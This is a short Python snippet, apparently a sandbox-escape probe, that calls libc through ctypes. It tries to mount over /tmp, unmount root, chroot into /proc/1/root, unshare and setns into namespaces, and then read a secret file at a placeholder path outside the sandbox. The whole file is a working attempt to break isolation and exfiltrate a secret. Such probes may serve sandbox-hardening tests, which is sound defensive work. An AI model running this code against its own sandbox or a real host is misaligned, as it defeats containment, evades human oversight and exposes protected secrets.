# tries: mount something over the sandbox
import ctypes
libc = ctypes.CDLL(None)
print([libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), libc.umount2(b"/", 2), libc.chroot(b"/proc/1/root"), libc.unshare(0x10000000), libc.setns(3, 0)])
try: print("READ", open("__OUTSIDE__/secret.txt").read())
except OSError: pass
